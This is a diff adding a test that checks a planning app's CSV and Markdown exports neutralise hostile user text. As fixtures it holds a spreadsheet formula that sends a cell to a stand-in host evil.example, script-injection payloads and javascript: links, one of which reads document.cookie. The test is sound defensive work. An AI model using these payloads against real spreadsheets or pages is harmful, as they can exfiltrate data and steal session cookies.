@@ -76,6 +76,59 @@ test('the Markdown one-pager and the milestones CSV say what the plan says', asy
   assert.equal(review[10], 'Needs the DPA, "signed", by legal; then | the pen test', 'quotes and commas survive')
 })
 
+test('exports are inert: CSV cells cannot start a formula, Markdown user text makes no HTML and no link', async () => {
+  const plan = await createPlan(server, { title: 'Rollout <img src=x onerror=alert(1)>' })
+  const buyer = client(server, plan.id, plan.buyer)
+  await synced(buyer)
+  const Y = (await import('yjs'))
+  const hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+  const titles = {
+    'ms-formula': hyperlink,
+    'ms-plus': '+1+1',
+    'ms-minus': '-2+3',
+    'ms-at': '@SUM(A1:A9)',
+    'ms-tab': '\t=cmd',
+    'ms-img': '<img src=x onerror=alert(1)>',
+    'ms-link': '[click](javascript:alert(1))',
+    'ms-plain': 'Security review - part 2'
+  }
+  buyer.doc.transact(() => {
+    for (const [id, title] of Object.entries(titles)) {
+      buyer.map('milestones').set(id, new Y.Map([['title', title], ['workstream', 'implementation'], ['due', '2027-03-10'],
+        ['notes', id === 'ms-link' ? '[x](javascript:alert(document.cookie)) ![p](http://evil.example/p.png) <script>x</script>' : '-notes'], ['order', `z${id}`]]))
+    }
+    buyer.map('meta').set('objective', '# Heading\n<img src=x onerror=alert(1)>\n[click](javascript:alert(1))')
+    buyer.map('stakeholders').set('st-x', new Y.Map([['name', '<b onmouseover=alert(1)>Eve</b>'], ['side', 'buyer'], ['order', 'a0']]))
+  })
+  // A move earlier: its negative day total is the export's own number, not user text.
+  const step = buyer.map('milestones').get('ms-plain')
+  buyer.doc.transact(() => { step.set('due', '2027-03-05'); step.set('slipReason', '=evil() <img src=x>') })
+  await waitFor(async () => (await api(server, 'GET', `/api/plans/${plan.id}/slips`)).body.slips.length === 1, { what: 'the slip' })
+  destroy(buyer)
+
+  const rows = parseCsv((await get(`/api/plans/${plan.id}/export.csv`, plan.seller)).text)
+  const row = id => rows.find(r => r[0] === id)
+  assert.equal(row('ms-formula')[2], `'${hyperlink}`)
+  for (const id of ['ms-plus', 'ms-minus', 'ms-at', 'ms-tab']) {
+    assert.equal(row(id)[2], `'${titles[id]}`, `${id}: ${JSON.stringify(row(id))}`)
+    assert.equal(row(id)[10], "'-notes")
+  }
+  assert.equal(row('ms-plain')[2], 'Security review - part 2', 'text that starts harmlessly is left alone')
+  assert.deepEqual([row('ms-plain')[8], row('ms-plain')[9]], ['1', '-5'], 'the export\'s own negative number is not quoted')
+  const cells = rows.slice(1).flat()
+  assert.ok(cells.every(c => !/^[=+\-@\t\r]/.test(c) || /^-\d+$/.test(c)), 'no cell starts a formula')
+
+  const md = (await get(`/api/plans/${plan.id}/export.md`, plan.seller)).text
+  assert.ok(!md.includes('<'), `no raw HTML:\n${md}`)
+  assert.ok(md.includes('&lt;img src=x onerror=alert(1)&gt;'), 'the text is still there, as text')
+  // Every bracket is escaped, so no link or image can be formed; no link has another scheme.
+  assert.ok(!md.replaceAll('\\]', '').includes(']'), `no link:\n${md}`)
+  assert.ok(!/\]\(\s*javascript:/i.test(md.replaceAll('\\]', '')))
+  assert.ok(md.includes('\\[click\\](javascript:alert(1))'))
+  assert.ok(md.includes('\\# Heading'), 'no heading from user text')
+  assert.ok(md.includes('“=evil() &lt;img src=x&gt;”'))
+})
+
 test('export → import → export gives the same plan, twice over; the import starts its own history', async () => {
   const plan = await richPlan()
   const first = JSON.parse((await get(`/api/plans/${plan.id}/export.json`, plan.seller)).text)
